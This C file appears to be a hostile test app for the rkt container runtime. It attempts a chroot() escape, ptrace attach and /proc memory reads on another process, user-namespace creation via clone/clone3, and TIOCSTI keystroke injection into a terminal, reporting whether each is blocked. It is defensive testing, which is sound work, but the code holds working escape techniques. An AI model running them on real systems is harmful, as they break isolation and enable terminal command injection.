/* Attacks on the pod boundary, run as an app by rkt/tests/hostile.rs.
 * Statically linked, so it runs in any image.
 *
 *   attack chroot PATH     the classic chroot() escape, then mkdir PATH
 *   attack ptrace MARKER   finds a process whose command line holds
 *                          MARKER, then tries to attach to it and read
 *                          its memory
 *   attack namespaces      tries to make a user namespace with clone(2)
 *                          and any namespace with clone3(2)
 *   attack tiocsti TTY TEXT  pushes TEXT and a newline as typed input
 *                          into the terminal TTY (a path, or a
 *                          descriptor number)
 *
 * Prints one line per attempt: "<what>: ok" or "<what>: <error>". */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sched.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <unistd.h>

static void report(const char *what, int failed) {
    printf("%s: %s\n", what, failed ? strerror(errno) : "ok");
    fflush(stdout);
}

static int escape_chroot(const char *target) {
    mkdir("/attack-chroot", 0755);
    report("chroot", chroot("/attack-chroot") != 0);
    for (int i = 0; i < 64; i++)
        chdir("..");
    report("chroot-out", chroot(".") != 0);
    report("mkdir", mkdir(target, 0755) != 0);
    return 0;
}

static int find(const char *marker) {
    for (int tries = 0; tries < 200; tries++) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == getpid())
                continue;
            char path[64], cmd[4096];
            snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
            int fd = open(path, O_RDONLY);
            if (fd < 0)
                continue;
            ssize_t n = read(fd, cmd, sizeof cmd - 1);
            close(fd);
            for (ssize_t i = 0; i < n; i++)
                if (cmd[i] == 0)
                    cmd[i] = ' ';
            if (n > 0 && (cmd[n] = 0, strstr(cmd, marker)) && !strstr(cmd, "attack")) {
                closedir(d);
                return pid;
            }
        }
        if (d)
            closedir(d);
        usleep(50000);
    }
    return 0;
}

static int trace(const char *marker) {
    int pid = find(marker);
    if (!pid) {
        printf("find: no process\n");
        return 1;
    }
    report("find", 0);
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    report("mem", open(path, O_RDONLY) < 0);
    snprintf(path, sizeof path, "/proc/%d/root/", pid);
    report("root", open(path, O_RDONLY | O_DIRECTORY) < 0);
    report("attach", ptrace(PTRACE_ATTACH, pid, 0, 0) != 0);
    return 0;
}

static int push(const char *tty, const char *text) {
    char what[128];
    snprintf(what, sizeof what, "tiocsti %s", tty);
    int fd = tty[0] >= '0' && tty[0] <= '9' ? atoi(tty) : open(tty, O_RDWR);
    if (fd < 0) {
        report(what, 1);
        return 1;
    }
    size_t n = strlen(text);
    for (size_t i = 0; i <= n; i++) {
        char c = i < n ? text[i] : '\n';
        if (ioctl(fd, TIOCSTI, &c) != 0) {
            report(what, 1);
            return 1;
        }
    }
    report(what, 0);
    return 0;
}

/* A child in new namespaces, by the raw calls (no libc fallback). */
static int namespaces(void) {
    long pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (pid == 0)
        _exit(0);
    report("clone-newuser", pid < 0);
    if (pid > 0)
        waitpid(pid, 0, 0);
    struct {
        unsigned long long flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls;
    } args = {CLONE_NEWUSER | CLONE_NEWNET, 0, 0, 0, SIGCHLD, 0, 0, 0};
    pid = syscall(SYS_clone3, &args, sizeof args);
    if (pid == 0)
        _exit(0);
    report("clone3-newuser", pid < 0);
    if (pid > 0)
        waitpid(pid, 0, 0);
    /* Without namespaces, clone still works. */
    pid = syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0);
    if (pid == 0)
        _exit(0);
    report("clone-plain", pid < 0);
    if (pid > 0)
        waitpid(pid, 0, 0);
    return 0;
}

int main(int argc, char **argv) {
    if (argc == 3 && !strcmp(argv[1], "chroot"))
        return escape_chroot(argv[2]);
    if (argc == 3 && !strcmp(argv[1], "ptrace"))
        return trace(argv[2]);
    if (argc == 2 && !strcmp(argv[1], "namespaces"))
        return namespaces();
    if (argc == 4 && !strcmp(argv[1], "tiocsti"))
        return push(argv[2], argv[3]);
    fprintf(stderr, "usage: attack chroot PATH | ptrace MARKER | namespaces | tiocsti TTY TEXT\n");
    return 2;
}
